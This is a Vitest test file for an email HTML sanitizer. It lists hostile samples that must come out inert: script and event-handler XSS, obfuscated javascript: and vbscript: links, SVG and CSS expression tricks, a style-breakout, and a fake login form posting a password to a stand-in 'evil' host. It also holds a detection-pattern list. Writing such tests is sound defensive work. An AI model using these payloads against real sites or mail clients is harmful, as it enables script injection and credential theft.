import { describe, expect, it } from 'vitest';
import { sanitizeHtmlBody } from './sanitize-html-body';

/** Pieces that must never survive sanitizing, checked on every hostile sample. */
const DANGEROUS = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /<meta/i, /<base/i, /<form/i, /<input/i, /<button/i,
  /<iframe/i, /<frame/i, /<object/i, /<embed/i, /<applet/i, /<svg/i, /<link/i, /@import/i, /expression\s*\(/i, /srcdoc/i, /file:/i];

function assertInert(html: string): void {
  for (const pattern of DANGEROUS) expect(html, `output matched ${pattern}`).not.toMatch(pattern);
}

const HOSTILE: Record<string, string> = {
  script: '<p>hi</p><script>alert(1)</script><SCRIPT src="http://evil/x.js"></SCRIPT>',
  handlers: '<img src="cid:x" onerror="alert(1)"><body onload="alert(1)"><div onmouseover=alert(1)>x</div><a href="https://a" OnClick="alert(1)">a</a>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=http://evil/">text',
  jsLinks: '<a href="javascript:alert(1)">1</a><a href="JaVaScRiPt:alert(1)">2</a><a href="jav&#x09;ascript:alert(1)">3</a><a href=" javascript:alert(1)">4</a>',
  dataFileLinks: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a><a href="file:///etc/passwd">f</a><a href="vbscript:msgbox(1)">v</a>',
  svgScript: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5" onload="alert(1)"/></svg>after',
  svgImage: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  forms: '<form action="http://evil/steal" method="post"><input name="password" type="password"><button formaction="http://evil">Login</button><select><option>x</option></select><textarea>t</textarea></form>',
  base: '<base href="http://evil/"><a href="/relative">r</a>',
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="http://evil/"></iframe><frameset><frame src="http://evil"></frameset>',
  objects: '<object data="http://evil/x.swf"></object><embed src="http://evil/x.swf"><applet code="X.class"></applet>',
  cssImport: '<style>@import url("http://evil/x.css"); @IMPORT "http://evil/y.css"; p { color: red }</style>',
  cssExpression: '<div style="width: expression(alert(1))">e</div><style>p { width: ex\\70 ression(alert(1)) } q { behavior: url(x.htc) }</style>',
  cssJsUrl: '<div style="background: url(javascript:alert(1))">x</div><style>a { background: url( \'vbscript:x\' ) }</style>',
  styleBreakout: '<style>p{color:red}</style><style>x{content:"\\3c/style\\3e<script>alert(1)</script>"}</style>',
  link: '<link rel="stylesheet" href="http://evil/x.css"><link rel="import" href="http://evil/x.html">',
};

describe('sanitizeHtmlBody', () => {
  for (const [name, html] of Object.entries(HOSTILE)) {
    it(`makes ${name} inert`, () => assertInert(sanitizeHtmlBody(html).html));
  }

  it('keeps a CSS string from closing <style> early', () => {
    const out = sanitizeHtmlBody(HOSTILE.styleBreakout).html;
    expect(out.match(/<\/style/gi)).toHaveLength(2);
    expect(out.match(/<style/gi)).toHaveLength(2);
  });

  it('keeps formatting, tables and inline styles that mail needs', () => {
    const html = '<table cellpadding="4" style="border-collapse:collapse"><tr><td style="color:#333;font-family:Arial" bgcolor="#eee" colspan="2"><b>Bold</b> <font color="red">red</font></td></tr></table><style>.x { color: blue }</style>';
    const out = sanitizeHtmlBody(html).html;
    expect(out).toContain('<table cellpadding="4" style="border-collapse:collapse">');
    expect(out).toContain('colspan="2"');
    expect(out).toContain('bgcolor="#eee"');
    expect(out).toContain('color:#333');
    expect(out).toContain('<font color="red">');
    expect(out).toContain('<style>.x { color: blue }</style>');
  });

  it('opens links in a new context without opener or referrer, keeping safe schemes', () => {
    const out = sanitizeHtmlBody('<a href="https://example.com/x">x</a><a href="mailto:a@b.c">m</a>').html;
    expect(out).toContain('<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">');
    expect(out).toContain('href="mailto:a@b.c"');
  });

  it('keeps cid: and safe data: images, drops other data: images', () => {
    const out = sanitizeHtmlBody('<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,x"><img src="data:image/svg+xml,x">').html;
    expect(out).toContain('src="cid:logo@x"');
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(out).not.toContain('data:text/html');
    expect(out).not.toContain('svg+xml');
  });

  it('flags remote content: images, backgrounds, CSS url() — and only then', () => {
    expect(sanitizeHtmlBody('<p>plain</p><img src="cid:x"><a href="https://a">link</a>').hasRemoteContent).toBe(false);
    expect(sanitizeHtmlBody('<img src="https://tracker.example/p.gif">').hasRemoteContent).toBe(true);
    expect(sanitizeHtmlBody('<td background="http://x/bg.png">t</td>').hasRemoteContent).toBe(true);
    expect(sanitizeHtmlBody('<div style="background-image:url(\'https://x/a.png\')">d</div>').hasRemoteContent).toBe(true);
    expect(sanitizeHtmlBody('<style>p{background:url(//x/a.png)}</style>').hasRemoteContent).toBe(true);
    // The remote stylesheet of an @import is removed, so it does not count.
    expect(sanitizeHtmlBody('<style>@import url(http://x/a.css);</style>').hasRemoteContent).toBe(false);
  });

  it('drops remote resources in tags that are removed (no hidden fetches)', () => {
    const out = sanitizeHtmlBody('<video poster="http://x/p.png" src="http://x/v.mp4"></video><audio src="http://x/a.mp3"></audio><img srcset="http://x/a.png 2x">');
    expect(out.html).not.toContain('http://x/');
  });
});
